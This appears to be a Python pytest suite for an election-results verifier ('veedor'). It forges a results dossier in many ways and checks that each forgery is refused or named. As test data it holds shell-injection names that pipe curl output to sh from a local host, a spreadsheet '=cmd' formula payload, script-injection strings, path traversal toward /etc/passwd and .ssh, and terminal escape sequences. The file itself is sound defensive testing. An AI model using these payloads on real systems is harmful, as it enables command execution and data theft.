"""Ways to forge a dossier: each is refused or named with its place, soon, and in little memory; none passes.

A way changes a copy of a dossier that lies beside its raw files. What is derived from the same files is derived once
for all of them: it is the same each time, as `test_site` shows.
"""

import gzip
import hashlib
import html
import json
import os
import re
import resource
import shlex
import shutil
import socket
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from tests.dossier.conftest import opened_from
from veedor.cli import application
from veedor.dossier import inventory
from veedor.dossier import verify as module
from veedor.dossier.input import Opened, open_sheets
from veedor.dossier.site import dossier_files, write_dossier
from veedor.dossier.verify import verify_dossier
from veedor.errors import VeedorError
from veedor.ledger.document import POLICY, policy_of

pytestmark = pytest.mark.slow

HUGE = 20 * 2**30
MOST_MEMORY = 2**30

Way = Callable[[Path], object]
WAYS: dict[str, tuple[Way, str]] = {}


def way(place: str) -> Callable[[Way], Way]:
    """Register a way. place: what must be said of it, as a regular expression."""

    def registered(function: Way) -> Way:
        WAYS[function.__name__] = (function, place)
        return function

    return registered


@pytest.fixture(scope="module")
def whole(simulated: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with an election and its dossier beside each other: the last publications of each count."""
    home = tmp_path_factory.mktemp("whole")
    shutil.copytree(simulated, home / "town")
    for count, kept in (("official", 1), ("preliminary", 2)):
        for path in sorted((home / "town").glob(f"{count}-*.csv"))[:-kept]:
            path.unlink()
    write_dossier(opened_from(home / "town", "town"), home / "site", data="../town")
    return home


@pytest.fixture
def copy(whole: Path, tmp_path: Path) -> Iterator[Path]:
    site = Path(shutil.copytree(whole, tmp_path / "home")) / "site"
    yield site
    while (
        site / "d/d"
    ).is_dir():  # of `very_deep`: what is deeper than Python's stack no later run of pytest could delete
        (site / "d/d").rename(site / "inner")
        (site / "d").rmdir()
        (site / "inner").rename(site / "d")


_derived: dict[Any, dict[str, bytes]] = {}


@pytest.fixture(autouse=True)
def _derived_once(monkeypatch: pytest.MonkeyPatch) -> None:
    def once(opened: Opened, **more: Any) -> dict[str, bytes]:
        rest = {key: value for key, value in more.items() if key != "step"}
        key = repr([opened.definition, opened.name, opened.raw, opened.claims, opened.audit, opened.mixture, rest])
        if key not in _derived:
            _derived[key] = dossier_files(opened, **rest)
        return _derived[key]

    monkeypatch.setattr(module, "dossier_files", once)


@pytest.fixture
def _little_memory() -> Iterator[None]:
    """No more than a gigabyte beyond what is taken already: what reads a file of 20 GB ends in a MemoryError."""
    taken = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
    before = resource.getrlimit(resource.RLIMIT_AS)
    resource.setrlimit(resource.RLIMIT_AS, (taken + MOST_MEMORY, before[1]))
    yield
    resource.setrlimit(resource.RLIMIT_AS, before)


def said_of(site: Path) -> list[str]:
    """What verify says of a dossier: its differences, or why it is refused."""
    try:
        return [str(one) for one in verify_dossier(site, None).differences]
    except VeedorError as refused:
        return str(refused).splitlines()


def test_the_dossier_that_is_forged_is_a_good_one(copy: Path) -> None:
    assert said_of(copy) == []


# --- files that nobody made -------------------------------------------------------------------------------------------


def write(path: Path, text: str = "<script>alert(1)</script>") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


EXTRA = {
    "extra": "evil.html",
    "hidden": ".htaccess",
    "hidden_folder": ".well-known/evil.html",
    "hidden_in_a_folder": "en/.index.html",
    "packed_twin": "en/count.html.gz",
    "brotli_twin": "en/count.html.br",
    "trailing_dot": "en/count.html.",
    "trailing_space": "en/count.html ",
    "case_twin": "en/Count.html",
    "folder_case_twin": "EN/count.html",
    "wide_twin": "en/ｃount.html",
    "cyrillic_twin": "en/c\u043eunt.html",
    "zero_width_twin": "en/count\u200b.html",
    "composed_twin": "es/cafe\u0301.html",
    "line_end": "en/x\n66 files derived again from 24 raw files: all the same",
    "steering": "en/\x1b[2J\x1b]0;pwn\x07.html",
    "backslash": "en\\count.html",
    "worker": "en/service-worker.js",
    "part_of_an_audit": "audit/plan.json",
    "claims_nobody_made": "claims.html",
    "git": ".git/config",
}


@pytest.mark.parametrize("name", EXTRA.values(), ids=EXTRA)
def test_a_file_that_nobody_made_is_named(name: str, copy: Path) -> None:
    write(copy / name)
    said = [line for line in said_of(copy) if "a folder, derived" not in line]
    assert len(said) == 1
    assert "found a file" in said[0]
    assert "derived again nothing" in said[0]
    assert said[0].startswith(shown(name))
    assert said[0].isprintable()
    if not name.isascii():
        assert ascii(name) in said[0]


def shown(name: str) -> str:
    """How a name stands on one line of a terminal."""
    for character, code in {"\n": "\\n", "\x1b": "\\u001b", "\x07": "\\u0007", "\u200b": "\\u200b"}.items():
        name = name.replace(character, code)
    return f"{name}: found"


@way(r"en/\\udcff\.html: found a file, spelt 'en/\\udcff.html'")
def not_utf_8(site: Path) -> None:
    (Path(os.fsdecode(os.fsencode(site) + b"/en/\xff.html"))).touch()


@way("extra: found a link")
def linked_folder(site: Path) -> None:
    (site / "extra").symlink_to(site.parent / "town")


@way("en/more: found a folder")
def empty_folder(site: Path) -> None:
    (site / "en/more").mkdir()


@way("pipe: found a pipe, a socket or a device")
def pipe(site: Path) -> None:
    os.mkfifo(site / "pipe")


@way("ear: found a pipe, a socket or a device")
def ear(site: Path) -> None:
    here = Path.cwd()
    os.chdir(site)  # the name of a socket is short
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind("ear")
    os.chdir(here)


@way("null: found a pipe, a socket or a device")
def device(site: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("only root makes devices")
    os.mknod(site / "null", 0o20666, os.makedev(1, 3))


@way("loop: found a link")
def links_in_a_circle(site: Path) -> None:
    (site / "loop").symlink_to("pool")
    (site / "pool").symlink_to("loop")


def test_a_folder_in_a_folder_and_so_on_beyond_the_longest_path(copy: Path) -> None:
    here, depth = Path.cwd(), 2_100
    os.chdir(copy)
    try:
        for _ in range(depth):  # a path of more than 4,096 bytes
            os.mkdir("d")
            os.chdir("d")
        os.chdir(here)
        checked(copy, "^(d/){10}.*: found a folder|cannot be looked into")
    finally:  # whoever clears up after the tests would go down as deep, and fail
        os.chdir(copy)
        for _ in range(depth):
            os.chdir("d")
        for _ in range(depth):
            os.chdir("..")
            os.rmdir("d")
        os.chdir(here)


def test_of_very_many_names_the_first_are_told_and_how_many_more(copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inventory, "MOST_NAMED", 20)
    for number in range(50):
        write(copy / f"en/{number}")
    said = said_of(copy)
    assert len(said) == 21
    assert said[-1] == "the folder: found 30 more names that nobody made, derived again nothing"


# --- pages and figures ------------------------------------------------------------------------------------------------


def change(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8", newline="")


def figure_of(site: Path) -> tuple[str, str]:
    """The first whole number with a comma on the first page, as it stands there and as another one."""
    found = re.search(r"\d\d,\d{3}", (site / "en/index.html").read_text(encoding="utf-8"))
    assert found
    return found[0], "99,999"


@way(r"en/index\.html, line \d+: found .*99,999")
def another_figure(site: Path) -> None:
    change(site / "en/index.html", *figure_of(site))


@way(r"es/count\.html, line \d+: found .*v\\u043etos.* derived again .*votos")
def a_letter_that_looks_the_same(site: Path) -> None:
    change(site / "es/count.html", "votos", "v\u043etos")


@way(r"en/count\.html, line 2: found .*\\x00")
def a_zero_byte(site: Path) -> None:
    change(site / "en/count.html", "<html", "\0<html")


@way(r"en/count\.html, line 1: found '\\ufeff<!doctype")
def a_mark_before_the_page(site: Path) -> None:
    page = site / "en/count.html"
    page.write_bytes(b"\xef\xbb\xbf" + page.read_bytes())


@way(r"en/count\.html, line 1: found '<!doctype html>\\r'")
def line_ends(site: Path) -> None:
    page = site / "en/count.html"
    page.write_bytes(page.read_bytes().replace(b"\n", b"\r\n"))


@way(r"en/count\.html: found [\d,]+ bytes \('utf-8' codec")
def bytes_that_are_no_text(site: Path) -> None:
    with (site / "en/count.html").open("ab") as page:
        page.write(b"\xff")


@way("es/count.html: found nothing, derived again a file")
def a_missing_page(site: Path) -> None:
    (site / "es/count.html").unlink()


@way(r"en/index\.html, line 2: found '<html lang=\"es\">', derived again '<html lang=\"en\">'")
def languages_swapped(site: Path) -> None:
    (site / "en").rename(site / "x")
    (site / "es").rename(site / "en")
    (site / "x").rename(site / "es")


@way(r"index\.html, line \d+: found")
def the_entry_is_another_page(site: Path) -> None:
    shutil.copy(site / "en/about.html", site / "index.html")


@way("en/c\u043eunt.html: found a file, spelt")
def a_page_renamed_to_what_looks_the_same(site: Path) -> None:
    (site / "en/count.html").rename(site / "en/c\u043eunt.html")


@way("en/count.html: found a link, derived again a file")
def a_page_is_a_link_out(site: Path) -> None:
    page = site / "en/count.html"
    shutil.copy(page, site.parent / "evil.html")
    page.unlink()
    page.symlink_to(site.parent / "evil.html")


@way("en/count.html: found a link, derived again a file")
def a_page_is_a_link_inside(site: Path) -> None:
    page = site / "en/count.html"
    page.rename(site / "en/x.html")
    page.symlink_to("x.html")


@way("en/count.html: found a file with 2 names")
def a_page_has_another_name_outside(site: Path) -> None:
    os.link(site / "en/count.html", site.parent / "page-to-change-later.html")


@way("en/count.html: found a pipe, a socket or a device, derived again a file")
def a_page_is_a_pipe(site: Path) -> None:
    (site / "en/count.html").unlink()
    os.mkfifo(site / "en/count.html")


@way("en/count.html: found a folder, derived again a file")
def a_page_is_a_folder(site: Path) -> None:
    (site / "en/count.html").unlink()
    (site / "en/count.html").mkdir()
    write(site / "en/count.html/index.html")


@way("en: found a file, derived again a folder")
def a_folder_is_a_file(site: Path) -> None:
    shutil.rmtree(site / "en")
    write(site / "en")


@way("en: found a link, derived again a folder")
def a_folder_is_a_link(site: Path) -> None:
    (site / "en").rename(site.parent / "en")
    (site / "en").symlink_to("../en")


@way("en/count.html: found a file that (nobody may read|cannot be read)")
def a_page_that_cannot_be_read(site: Path) -> None:
    (site / "en/count.html").chmod(0)


@way("en/count.html: found a file with the rights of its owner")
def a_page_that_runs_as_its_owner(site: Path) -> None:
    (site / "en/count.html").chmod(0o4755)


@way(r"en/count\.html: found 21,474,836,480 bytes, derived again [\d,]+ bytes")
def a_huge_page(site: Path) -> None:
    with (site / "en/count.html").open("wb") as page:
        page.truncate(HUGE)


@way("en/count.html: found more differences than these 1,000, derived again none")
def a_page_of_many_lines(site: Path) -> None:
    (site / "en/count.html").write_text("\n" * 900_000, encoding="utf-8")


@way(r"assets/[a-z]+\.js, line \d+: found '//x', derived again nothing")
def a_line_more_in_a_script(site: Path) -> None:
    with next((site / "assets").glob("*.js")).open("a", encoding="utf-8") as script:
        script.write("\n//x")


@way(r"assets/style\.css, line \d+: found '', derived again nothing")
def a_space_more_in_the_style(site: Path) -> None:
    with (site / "assets/style.css").open("a", encoding="utf-8") as style:
        style.write("\n")


# --- results, data and tables -----------------------------------------------------------------------------------------


COUNTED = '"expected": 300,'


def results(site: Path, name: str = "count") -> Path:
    return site / f"results/{name}.json"


@way(r"results/count\.json: found [\d,]+ other bytes")
def keys_in_another_order(site: Path) -> None:
    document = json.loads(results(site).read_bytes())
    text = json.dumps(dict(reversed(document.items())), ensure_ascii=False, indent=1) + "\n"
    results(site).write_text(text, encoding="utf-8")


@way(r"results/count\.json, sheets.expected: found 300\.0, derived again 300")
def a_whole_number_as_a_fraction(site: Path) -> None:
    change(results(site), COUNTED, '"expected": 300.0,')


@way(r"results/count\.json: found .* \(the key 'expected' twice in one object\)")
def a_key_twice(site: Path) -> None:
    change(results(site), COUNTED, '"expected": 999,\n "expected": 300,')


@way(r"results/count\.json, sheets\.expected: found Infinity, derived again 300")
def a_number_beyond_all_numbers(site: Path) -> None:
    change(results(site), COUNTED, '"expected": 1e999,')


@way(r"results/count\.json: found .* \(NaN is no number\)")
def no_number(site: Path) -> None:
    change(results(site), COUNTED, '"expected": NaN,')


@way(r"results/count\.json: found .*digits")
def a_number_of_many_digits(site: Path) -> None:
    change(results(site), COUNTED, f'"expected": {"9" * 100_000},')


@way(r"results/count\.json: found .* \(values nested deeper than")
def very_deep_json(site: Path) -> None:
    results(site).write_text("[" * 400_000 + "]" * 400_000, encoding="utf-8")


@way(r"results/count\.json: found [\d,]+ bytes, derived again")
def spaces_more_in_json(site: Path) -> None:
    with results(site).open("a", encoding="utf-8") as file:
        file.write("\n")


@way(r"results/count\.json, \S+: found .*, derived again nothing")
def a_key_of_their_own(site: Path) -> None:
    change(results(site), "{", '{"signed\u202e_by\x7f": "the authority",')


@way(r"data/chunk-0\.js: found [\d,]+ bytes \(")
def code_after_the_data(site: Path) -> None:
    with (site / "data/chunk-0.js").open("a", encoding="utf-8") as file:
        file.write("alert(1);\n")


@way(r"data/chunk-0\.js: found .* \(data/chunk-0\.js: not")
def code_before_the_data(site: Path) -> None:
    path = site / "data/chunk-0.js"
    path.write_text("alert(1);" + path.read_text(encoding="utf-8"), encoding="utf-8")


@way(r"data/chunk-0\.js: found")
def code_between_the_data(site: Path) -> None:
    change(site / "data/chunk-0.js", 'veedor.data("chunk-0",', 'veedor.data("x",1);alert(1);veedor.data("chunk-0",')


@way(r"data/chunk-0\.js: found .* \(values nested deeper than")
def very_deep_data(site: Path) -> None:
    text = 'veedor.data("chunk-0",' + "[" * 200_000 + "]" * 200_000 + ");\n"
    (site / "data/chunk-0.js").write_text(text, encoding="utf-8")


@way("data/chunk-0.js: found more differences than these 1,000")
def very_many_figures(site: Path) -> None:
    text = f'veedor.data("chunk-0",{{"station":{list(range(150_000))}}});\n'.replace(", ", ",")
    (site / "data/chunk-0.js").write_text(text, encoding="utf-8")


@way(r"tables/places-region\.csv, row \d+, column region: found .*cmd")
def a_formula_in_a_table(site: Path) -> None:
    with (site / "tables/places-region.csv").open("a", encoding="utf-8") as file:
        file.write("=cmd|' /C calc'!A0\n")


@way(r"tables/places-region\.csv: found .*field larger than field limit")
def a_huge_cell(site: Path) -> None:
    with (site / "tables/places-region.csv").open("a", encoding="utf-8") as file:
        file.write('"' + "x" * 900_000)


# --- the manifest -----------------------------------------------------------------------------------------------------


def manifest(site: Path, changed: Callable[[dict[str, Any]], object]) -> None:
    path = results(site, "manifest")
    document = json.loads(path.read_bytes())
    changed(document)
    path.write_text(json.dumps(document, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")


MANIFEST_KEYS: dict[str, tuple[dict[str, Any], str]] = {
    "version": ({"veedor": "9.9.9"}, r"manifest\.json, veedor: found \"9\.9\.9\""),
    "steering_version": ({"veedor": "9\x1b[2J\x07 all the same"}, r"manifest\.json, veedor: found \"9\\u001b\[2J"),
    "version_no_text": ({"veedor": 1}, r"manifest\.json, column veedor: found 1"),
    "old_version": ({"veedor": "0.0.1", "files": []}, r"manifest\.json, veedor: found \"0\.0\.1\""),
    "a_key_of_their_own": ({"signed_by": "the authority"}, r"manifest\.json, signed_by: found \"the authority\""),
    "another_election": ({"election": "other"}, r"manifest\.json, election: found \"other\""),
    "contest": ({"contest": "\x1b[31mx"}, r"manifest\.json, column contest: found '\\x1b\[31mx', wanted one of"),
    "skipped_rows": ({"skip_bad_rows": True}, r"manifest\.json, skip_bad_rows|results/election"),
    "skipped_rows_as_a_number": ({"skip_bad_rows": 1}, r"manifest\.json, column skip_bad_rows: found 1"),
    "no_raw_files": ({"raw": []}, r"raw file \S+\.csv, SHA-256: found nothing, derived again another file"),
    "raw_files_no_list": ({"raw": {"file": "x"}}, r"manifest\.json, column raw: found"),
    "files_no_list": ({"files": [1, 2]}, r"manifest\.json, column files\.0: found 1"),
    "given_no_list": ({"given": "results/mixture.json"}, r"manifest\.json, column given: found"),
    "given_absent": ({"given": ["results/mixture.json"]}, r"results/mixture\.json: found .*is not there"),
    "audit_absent": ({"audit": "audit"}, "the audit that this dossier shows is not in"),
    "audit_elsewhere": ({"audit": "/etc"}, "the audit that this dossier shows is not in"),
    "data_of_the_system": (
        {"data": "/proc/self"},
        "the dossier points to '/proc/self', which leads out",
    ),
    "data_absolute_but_near": ({"data": "{home}/town"}, "which leads out of .*--data DIR"),
    "data_far_away": ({"data": "../../../../../../../../etc"}, "which leads out of .*--data DIR"),
    "data_zero_byte": ({"data": "a\0b"}, "the raw files: no folder .*--data DIR"),
    "data_nowhere": ({"data": "nowhere"}, "the raw files: no folder 'nowhere'.*--data DIR"),
    "data_a_file": ({"data": "index.html"}, "the raw files: no folder 'index.html'.*--data DIR"),
    "data_very_long": ({"data": "a" * 4096}, "the raw files: no folder .*--data DIR"),
    "data_endless": ({"data": "a" * 5000}, r"manifest\.json, column data: found"),
    "record_of_the_system": ({"record": "/etc"}, "the record: the dossier points to '/etc', which leads out"),
    "record_nowhere": ({"record": "../log"}, "the record: no folder '../log'.*--record DIR"),
    "record_no_record": ({"record": "../town"}, "the record cannot be shown: .*log.json is missing"),
    "record_no_text": ({"record": ["x"]}, r"manifest\.json, column record: found"),
    "name_a_command": ({"name": "x; curl http://127.0.0.1/evil | sh #"}, r"manifest\.json, name: found .*one word"),
}


@pytest.mark.parametrize(("changed", "place"), MANIFEST_KEYS.values(), ids=MANIFEST_KEYS)
@pytest.mark.usefixtures("_little_memory")
def test_a_forged_key_of_the_manifest_is_named(changed: dict[str, Any], place: str, copy: Path) -> None:
    at = {key: value.format(home=copy.parent) if key == "data" else value for key, value in changed.items()}
    manifest(copy, lambda document: document.update(at))
    checked(copy, place)


RAW_ROWS: dict[str, tuple[dict[str, Any], str]] = {
    "another_hash": ({"sha256": "0" * 64}, r"raw file first, SHA-256: found 0{64}, derived again another file"),
    "hash_no_hash": ({"sha256": "x"}, r"column raw\.0\.sha256: found 'x'"),
    "other_size": ({"bytes": 1}, r"raw file first, SHA-256: found [0-9a-f]{64}, derived again another file"),
    "size_no_number": ({"bytes": 1.5}, r"column raw\.0\.bytes: found 1\.5"),
    "no_such_file": ({"file": "none.csv"}, r"raw file none\.csv, SHA-256: found [0-9a-f]{64}, derived again nothing"),
    "absolute": ({"file": "/etc/passwd"}, "raw file /etc/passwd: found a name that leads out of their folder"),
    "upwards": ({"file": "../site/election.toml"}, "raw file ../site/election.toml: found a name that leads out"),
    "zero_byte": ({"file": "a\0b"}, r"raw file a\\u0000b: found a name that leads out"),
    "other_case": ({"file": "OFFICIAL-20310519T125201.csv"}, "raw file OFFICIAL-.*, SHA-256: found"),
    "file_a_list": ({"file": ["x"]}, r"column raw\.0\.file: found \['x'\]"),
    "other_count": ({"count": "official"}, r"results/manifest\.json, raw\[0\]\.count: found"),
    "other_time": ({"snapshot": "2031-01-01T00:00:00"}, r"results/manifest\.json, raw\[0\]\.snapshot: found"),
    "member": ({"member": "x.csv"}, r"results/manifest\.json, raw\[0\]\.member: found"),
    "more": ({"signed": True}, r"results/manifest\.json, raw\[0\]\.signed: found true"),
}


@pytest.mark.parametrize(("changed", "place"), RAW_ROWS.values(), ids=RAW_ROWS)
def test_a_forged_raw_file_of_the_manifest_is_named(changed: dict[str, Any], place: str, copy: Path) -> None:
    first = json.loads(results(copy, "manifest").read_bytes())["raw"][0]["file"]
    manifest(copy, lambda document: document["raw"][0].update(changed))
    checked(copy, place.replace("first", re.escape(first)))


@way(r"results/manifest\.json, raw\[24\]\.bytes: found [\d,]+, derived again nothing|results/manifest\.json, raw\[")
def a_raw_file_twice(site: Path) -> None:
    manifest(site, lambda document: document["raw"].append(document["raw"][0]))


@way(r"column raw\.\d+: found 1")
def raw_files_of_odd_kinds(site: Path) -> None:
    manifest(site, lambda document: document["raw"].extend([1, "x", {"file": ["x"]}]))


@way(r"results/manifest\.json, files\[1\]")
def fewer_files(site: Path) -> None:
    manifest(site, lambda document: document.update(files=document["files"][:1]))


@way(r"manifest\.json: found no JSON \(wanted an object, found an array\)")
def manifest_a_list(site: Path) -> None:
    results(site, "manifest").write_text("[]", encoding="utf-8")


@way(r"manifest\.json: found no JSON \(values nested deeper")
def manifest_deep(site: Path) -> None:
    results(site, "manifest").write_text("[" * 100_000, encoding="utf-8")


@way(r"manifest\.json: found no JSON \(the key 'data' twice")
def manifest_key_twice(site: Path) -> None:
    change(results(site, "manifest"), '"data":', '"data": "/etc",\n "data":')


@way(r"manifest\.json has 21,474,836,480 bytes")
def manifest_huge(site: Path) -> None:
    with results(site, "manifest").open("r+b") as file:
        file.truncate(HUGE)


@way(r"manifest\.json is a pipe, no regular file")
def manifest_a_pipe(site: Path) -> None:
    results(site, "manifest").unlink()
    os.mkfifo(results(site, "manifest"))


@way(r"manifest\.json leads out of")
def manifest_a_link_out(site: Path) -> None:
    results(site, "manifest").rename(site.parent / "manifest.json")
    results(site, "manifest").symlink_to(site.parent / "manifest.json")


@way(r"manifest\.json leads out of")
def results_a_link_out(site: Path) -> None:
    (site / "results").rename(site.parent / "results")
    (site / "results").symlink_to("../results")


@way("which leads out of")
def data_by_a_link(site: Path) -> None:
    elsewhere = site.parent.parent / "elsewhere"
    (site.parent / "town").rename(elsewhere)
    (site.parent / "town").symlink_to(elsewhere)


@way("links go round|no folder")
def data_by_links_in_a_circle(site: Path) -> None:
    shutil.rmtree(site.parent / "town")
    (site.parent / "town").symlink_to("nwot")
    (site.parent / "nwot").symlink_to("town")


# --- definition, claims, audit, mixture, raw files --------------------------------------------------------------------


@way(r"results/manifest\.json, files\[\d+\]")
def a_comment_more_in_the_definition(site: Path) -> None:
    change(site / "election.toml", "date", "# x\ndate")


@way(r"election\.toml is a pipe")
def definition_a_pipe(site: Path) -> None:
    (site / "election.toml").unlink()
    os.mkfifo(site / "election.toml")


@way(r"election\.toml has 21,474,836,480 bytes")
def definition_huge(site: Path) -> None:
    with (site / "election.toml").open("r+b") as file:
        file.truncate(HUGE)


@way(r"election\.toml leads out of")
def definition_of_the_system(site: Path) -> None:
    (site / "election.toml").unlink()
    (site / "election.toml").symlink_to("/etc/hostname")


@way(r"claims\.toml is a pipe")
def claims_a_pipe(site: Path) -> None:
    os.mkfifo(site / "claims.toml")


@way(r"claims\.toml is not there|claims\.toml cannot be read|leads out")
def claims_a_link_to_nothing(site: Path) -> None:
    (site / "claims.toml").symlink_to("/nowhere/at/all")


@way(r"claims\.toml: found a file|results/claims\.json|claims")
def claims_more(site: Path) -> None:
    write(site / "claims.toml", "")


@way(r"audit/plan\.json|plan\.json is not there")
def audit_of_pipes(site: Path) -> None:
    manifest(site, lambda document: document.update(audit="audit"))
    (site / "audit/answers").mkdir(parents=True)
    os.mkfifo(site / "audit/plan.json")
    os.mkfifo(site / "audit/answers/reds-1.txt")


@way(r"audit/manifest\.csv has 21,474,836,480 bytes")
def audit_huge(site: Path) -> None:
    manifest(site, lambda document: document.update(audit="audit"))
    write(site / "audit/plan.json", "{}")
    with (site / "audit/manifest.csv").open("wb") as file:
        file.truncate(HUGE)


@way("the audit that this dossier shows is not in")
def audit_a_link(site: Path) -> None:
    manifest(site, lambda document: document.update(audit="audit"))
    (site / "audit").symlink_to("../town")


@way(r"results/mixture\.json: found .*, derived again figures that agree")
def a_mixture_of_nothing(site: Path) -> None:
    manifest(site, lambda document: document.update(given=["results/mixture.json"]))
    write(results(site, "mixture"), "{}")


@way(r"results/mixture\.json: found .*21,474,836,480 bytes")
def a_huge_mixture(site: Path) -> None:
    manifest(site, lambda document: document.update(given=["results/mixture.json"]))
    with results(site, "mixture").open("wb") as file:
        file.truncate(HUGE)


@way(r"results/mixture\.json: found .*is a pipe")
def a_mixture_from_a_pipe(site: Path) -> None:
    manifest(site, lambda document: document.update(given=["results/mixture.json"]))
    os.mkfifo(results(site, "mixture"))


def raw(site: Path) -> Path:
    return min((site.parent / "town").glob("official-*.csv"))


@way(r"raw file official-\S+, SHA-256: found [0-9a-f]{64}, derived again another file")
def another_raw_file(site: Path) -> None:
    with raw(site).open("a", encoding="utf-8") as file:
        file.write("\n")


@way(r"raw file official-\S+: found a file, derived again .*leads out of")
def a_raw_file_by_a_link(site: Path) -> None:
    path = raw(site)
    path.rename(site.parent / "secret.csv")
    path.symlink_to("../secret.csv")


@way(r"raw file official-99991231T000000\.csv, SHA-256: found nothing, derived again another file")
def a_raw_file_more(site: Path) -> None:
    shutil.copy(raw(site), raw(site).with_name("official-99991231T000000.csv"))


@way(r"raw file official-\S+, SHA-256: found [0-9a-f]{64}, derived again another file")
def a_huge_raw_file(site: Path) -> None:
    with raw(site).open("r+b") as file:
        file.truncate(HUGE)


@way(r"raw file official-\S+, SHA-256: found [0-9a-f]{64}, derived again")
def a_huge_raw_file_whose_size_the_manifest_has(site: Path) -> None:
    a_huge_raw_file(site)
    name = raw(site).name
    manifest(site, lambda document: [row.update(bytes=HUGE) for row in document["raw"] if row["file"] == name])


@pytest.mark.parametrize(("forge", "place"), WAYS.values(), ids=WAYS)
@pytest.mark.usefixtures("_little_memory")
def test_what_is_forged_is_refused_or_named(forge: Way, place: str, copy: Path) -> None:
    forge(copy)
    checked(copy, place)


def checked(site: Path, place: str) -> None:
    said = said_of(site)
    assert any(re.search(place, line) for line in said), said[:20]
    assert all(line.isprintable() for line in said)


@pytest.mark.usefixtures("_little_memory")
def test_the_policy_beside_a_log_is_a_small_regular_file(tmp_path: Path) -> None:
    assert policy_of(tmp_path) is None
    os.mkfifo(tmp_path / POLICY)
    with pytest.raises(VeedorError, match="is a pipe, no regular file"):
        policy_of(tmp_path)
    (tmp_path / POLICY).unlink()
    with (tmp_path / POLICY).open("wb") as policy:
        policy.truncate(HUGE)
    with pytest.raises(VeedorError, match="has 21,474,836,480 bytes"):
        policy_of(tmp_path)


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "a/../../b"])
def test_a_table_that_a_definition_names_elsewhere_is_not_asked_for(name: str, copy: Path) -> None:
    with (copy / "election.toml").open("a", encoding="utf-8") as definition:
        definition.write(GROUPING.format(name=name))
    assert any("inside the data folder" in line for line in said_of(copy))


GROUPING = """
[[groupings]]
id = "urban"
name = {{ en = "Urban" }}
file = "{name}"
station = "station"
column = "group"
values = {{ urban = ["U"], rural = ["R"] }}
"""


# --- as a person calls it ---------------------------------------------------------------------------------------------


def test_a_name_made_consistent_everywhere_is_named_all_the_same(copy: Path) -> None:
    """The pages then hold a command that runs something else; every figure is right."""
    new = "town; curl http://127.0.0.1/evil.sh|sh"
    source = opened_from(copy.parent / "town", new)
    for name, content in dossier_files(source, data="../town").items():
        bare = content.replace(f"&#39;{new}&#39;".encode(), new.encode()).replace(f"'{new}'".encode(), new.encode())
        (copy / name).write_bytes(bare)
    assert any("manifest.json, name" in line for line in said_of(copy))


def test_a_name_that_a_shell_would_run_is_quoted_in_every_command(copy: Path) -> None:
    new = "town; curl http://127.0.0.1/evil.sh|sh"
    source = opened_from(copy.parent / "town", new)
    files = dossier_files(source, data="../town")
    shown = [line for name, content in files.items() if name.endswith(".html") for line in content.decode().split("<")]
    commands = [html.unescape(line.split(">", 1)[1]) for line in shown if line.startswith("code>veedor")]
    assert sum("evil.sh" in command for command in commands) > 10
    assert all(new in shlex.split(command) for command in commands if "evil.sh" in command)


@pytest.mark.parametrize("told", [False, True])
def test_a_raw_file_replaced_while_verify_runs_is_named(
    told: bool, copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Between the look at its hash and the reading of its sheets."""
    real = open_sheets

    def later(*given: Any, **more: Any) -> Opened:
        text = raw(copy).read_text(encoding="utf-8").splitlines(keepends=True)
        raw(copy).write_text("".join(text[:-1]), encoding="utf-8")
        return real(*given, **more)

    monkeypatch.setattr(module, "open_sheets", later)
    found = verify_dossier(copy, copy.parent / "town" if told else None).differences
    assert (found[0].file, found[0].where) == (f"raw file {raw(copy).name}", "SHA-256")


def test_of_a_folder_that_only_the_manifest_names_no_hash_is_told_and_nothing_is_derived(copy: Path) -> None:
    """`"data": "../.ssh"`, with a definition that calls the key a table of sheets."""
    (copy.parent / ".ssh").mkdir()
    secret = copy.parent / ".ssh/key.csv"
    secret.write_text("station,registered\nsecret,1\n", encoding="utf-8")
    definition = re.sub(r'files = "official-[^"]*"', 'file = "key.csv"', (copy / "election.toml").read_text())
    definition = re.sub(r'files = "preliminary-[^"]*"', 'file = "key.csv"', definition)
    (copy / "election.toml").write_text(definition, encoding="utf-8")
    row = {"file": "key.csv", "bytes": secret.stat().st_size, "sha256": "0" * 64}
    manifest(copy, lambda document: document.update(data="../.ssh", raw=[row]))
    said = "\n".join(said_of(copy))
    assert "raw file key.csv, SHA-256: found 000" in said
    assert hashlib.sha256(secret.read_bytes()).hexdigest() not in said
    assert "secret" not in said.replace(str(copy), "")
    assert "every figure" in said


def veedor(*words: str) -> tuple[int, str]:
    done = CliRunner().invoke(application("verify"), ["verify", *words])
    return done.exit_code, done.output


def test_the_exit_status_is_1_and_every_line_is_one_line(copy: Path) -> None:
    write(copy / EXTRA["line_end"])
    status, said = veedor(str(copy))
    assert status == 1
    assert len(said.splitlines()) == 2
    assert "all the same" not in [line.strip() for line in said.splitlines()]
    status, said = veedor(str(copy), "--json")
    assert (status, json.loads(said)["same"]) == (1, False)


def test_a_dossier_that_is_a_link_is_verified_where_it_lies_and_that_is_said(copy: Path) -> None:
    link = copy.parent.parent / "link"
    link.symlink_to(copy)
    status, said = veedor(str(link))
    assert status == 0
    assert f"what is verified is {copy.resolve()}" in said
    write(copy / "evil.html")
    assert veedor(str(link))[0] == 1


def test_a_packed_twin_of_a_page_that_says_something_else(copy: Path) -> None:
    page = copy / "en/count.html"
    (copy / "en/count.html.gz").write_bytes(gzip.compress(page.read_bytes().replace(b"veedor", b"evil")))
    assert said_of(copy) == ["en/count.html.gz: found a file, derived again nothing"]


def test_the_names_of_ways_tell_them_apart() -> None:
    assert len(WAYS) + len(EXTRA) + len(MANIFEST_KEYS) + len(RAW_ROWS) > 100
